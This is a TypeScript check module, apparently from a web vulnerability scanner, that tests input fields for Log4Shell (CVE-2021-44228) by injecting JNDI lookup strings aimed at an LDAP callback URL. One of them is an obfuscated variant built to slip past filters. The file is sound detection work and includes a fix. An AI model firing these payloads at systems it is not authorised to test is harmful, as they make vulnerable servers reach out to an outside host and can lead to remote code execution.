import { injectable } from '../../attacks/places.js';
import { hasTechnology, isAtLeast, proveCallback } from '../../attacks/prove.js';
import type { ActiveCheck, Prober, Proof } from '../../check.js';
import type { InputPlace } from '../../exchange.js';

export const check: ActiveCheck = {
  id: 'log4shell',
  mode: 'active',
  scope: 'place',
  places: injectable,
  writes: false,
  technologies: [],
  title: 'Log4j looks up addresses in what it logs',
  severity: 'critical',
  aliases: ['ZAP-40043', 'CVE-2021-44228', 'CVE-2021-45046', 'CWE-117', 'WASC-20'],
  cwe: 117,
  fix: 'Update Log4j to 2.17.1 or later.',
  references: ['https://logging.apache.org/security.html#CVE-2021-44228'],
  cost: { low: 2, medium: 2, high: 2, insane: 2 },
  attack: async (target, prober) => (target.scope === 'place' ? prove(target.place, prober) : []),
};

async function prove(place: InputPlace, prober: Prober): Promise<readonly Proof[]> {
  const isLikely = hasTechnology(prober, /log4j|java|spring|tomcat|jetty|maven|solr|elasticsearch/) === true;
  if (!isLikely && !isAtLeast(prober, 'high')) return [];
  const ldap = (url: string) => url.replace(/^https?:/, 'ldap:');
  const proof = await proveCallback(prober, place, [
    (url) => `\${jndi:${ldap(url)}}`,
    (url) => `\${\${lower:j}ndi:\${lower:l}${ldap(url).slice(1)}}`,
  ]);
  return proof === undefined ? [] : [proof];
}
